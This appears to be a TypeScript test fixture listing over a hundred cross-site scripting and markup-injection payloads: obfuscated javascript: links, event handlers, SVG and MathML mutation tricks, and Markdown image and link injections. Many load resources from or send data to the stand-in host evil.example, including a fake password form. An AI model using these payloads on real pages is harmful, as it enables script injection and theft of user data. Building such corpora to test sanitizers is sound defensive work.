/** What marks that something ran; a test looks for it. */
const RUN = '__hacked=1';
const OUT = 'https://evil.example/leak';

/** Ways to write a link that runs something, as browsers and parsers have understood them. */
const addresses = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `java&#09;script:${RUN}`,
  `java&#10;script:${RUN}`,
  `&#106;avascript:${RUN}`,
  `&#x6A;avascript&colon;${RUN}`,
  `javascript&colon;${RUN}`,
  `javascript:/*-->*/${RUN}`,
  `javascript://%0a${RUN}`,
  `java%73cript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `\u200Bjavascript:${RUN}`,
  `vbscript:${RUN}`,
  `data:text/html,<script>parent.${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19oYWNrZWQ9MTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.${RUN}'/>`,
  `file:///etc/passwd`,
  `blob:null/00000000-0000-0000-0000-000000000000`,
] as const;

const links = addresses.flatMap((address, index) => [
  index % 2 === 0 ? `[open me](${address.replaceAll(' ', '%20')})` : `[open me](<${address}>)`,
  `<a href="${address}">open me</a>`,
]);

/** Elements that run something by themselves. */
const handlers = [
  `<img src=x onerror=${RUN}>`,
  `<img src="x" onerror="${RUN}" />`,
  `<IMG SRC=x ONERROR=${RUN}>`,
  `<img/src=x/onerror=${RUN}>`,
  `<img src=x:x onerror\n=\n${RUN}>`,
  `<body onload=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<details open ontoggle=${RUN}>more</details>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}>`,
  `<textarea autofocus onfocus=${RUN}>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<p onmouseover=${RUN}>x</p>`,
  `<div style="animation-name:appear" onanimationstart=${RUN}>x</div>`,
  `<button popovertarget=x onclick=${RUN}>x</button><div popover id=x onbeforetoggle=${RUN}>y</div>`,
] as const;

const scripts = [
  `<script>${RUN}</script>`,
  `<SCRIPT>${RUN}</SCRIPT>`,
  `<script src=${OUT}.js></script>`,
  `<script type=module>import '${OUT}.js'</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `"><script>${RUN}</script>`,
  `'-${RUN}-'`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<template><script>${RUN}</script></template>`,
] as const;

const drawings = [
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s></svg>`,
  `<svg><set attributeName=href to="javascript:${RUN}"></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${RUN}</script>"></iframe></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x"></use></svg>`,
  `<svg><image href="${OUT}.svg" onerror=${RUN}></svg>`,
  `<svg><style>@import '${OUT}.css'</style></svg>`,
  `<math><maction actiontype=statusline xlink:href="javascript:${RUN}">x</maction></math>`,
  `<math href="javascript:${RUN}">x</math>`,
] as const;

/** Elements that fetch, lead away or change the page. */
const frames = [
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src=${OUT}></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<object data=${OUT}.swf></object>`,
  `<embed src=${OUT}>`,
  `<meta http-equiv=refresh content="0;url=${OUT}">`,
  `<meta http-equiv="Content-Security-Policy" content="default-src *">`,
  `<base href=${OUT}/>`,
  `<link rel=stylesheet href=${OUT}.css>`,
  `<link rel=prefetch href=${OUT}>`,
  `<form action=${OUT}><input name=password><button>Sign in</button></form>`,
  `<form><button formaction="javascript:${RUN}">x</button></form>`,
  `<style>@import '${OUT}.css'; body{background:url(${OUT})}</style>`,
  `<p style="background:url(${OUT})">x</p>`,
  `<p style="position:fixed;inset:0;z-index:9999">over everything</p>`,
  `<table background=${OUT}><tr><td>x</td></tr></table>`,
  `<video poster=${OUT} src=${OUT}></video>`,
  `<img srcset="${OUT} 1x" src=${OUT}>`,
  `<picture><source srcset=${OUT}><img src=x></picture>`,
] as const;

/** What Markdown itself can fetch or lead to. */
const markdown = [
  `![picture](${OUT}.png)`,
  `![picture](${OUT}.png "title")`,
  `![](//evil.example/leak.png)`,
  `![r][ref]\n\n[ref]: ${OUT}.png`,
  `[r][jsref]\n\n[jsref]: javascript:${RUN}`,
  `[![both](${OUT}.png)](javascript:${RUN})`,
  `<javascript:${RUN}>`,
  `Note[^1]\n\n[^1]: [x](javascript:${RUN}) ![y](${OUT}.png)`,
  `| a |\n|---|\n| [x](javascript:${RUN}) ![y](${OUT}.png) |`,
  `- [ ] <img src=x onerror=${RUN}>`,
  `# <img src=x onerror=${RUN}>`,
  `> <svg onload=${RUN}>`,
  `\`\`\`html\n<script>${RUN}</script>\n\`\`\``,
  `\`\`\`"onload=${RUN}\n<svg>\n\`\`\``,
  `[x](javascript:${RUN} "onclick=${RUN}")`,
  `[x](https://example.test/"onmouseover="${RUN})`,
] as const;

/** Comments, entities, letters that hide, templates, and what parsers have turned into something else. */
const tricks = [
  `<!-- --><img src=x onerror=${RUN}><!-- -->`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<!-- hidden orders: <script>${RUN}</script> -->`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `<?xml version="1.0"?><script xmlns="http://www.w3.org/1999/xhtml">${RUN}</script>`,
  `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${RUN}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<listing><img src=x onerror=${RUN}></listing>`,
  `<xmp><p title="</xmp><img src=x onerror=${RUN}>"></xmp>`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `<%= ${RUN} %>`,
  `\u202Etxt.exe\u202C reads backwards`,
  `\uFF1Cscript\uFF1E${RUN}\uFF1C/script\uFF1E`,
  `__proto__[${RUN}] constructor prototype`,
  `<p id=location name=cookie>clobber</p><a id=root name=root>x</a>`,
  `<custom-element is=script>${RUN}</custom-element>`,
] as const;

/** Everything that a text could try on the page that shows it. */
export const payloads: readonly string[] = [
  ...links,
  ...handlers,
  ...scripts,
  ...drawings,
  ...frames,
  ...markdown,
  ...tricks,
];

/** Several in one text; what one opens ends before the next begins. */
export function together(texts: readonly string[]): string {
  return texts.join('\n\n--> ]]> ?> </script></style></pre></textarea>\n\n');
}

/** The texts in so many parts. */
export function inParts(texts: readonly string[], parts: number): readonly (readonly string[])[] {
  const size = Math.ceil(texts.length / parts);
  return Array.from({ length: parts }, (_, part) => texts.slice(part * size, (part + 1) * size));
}
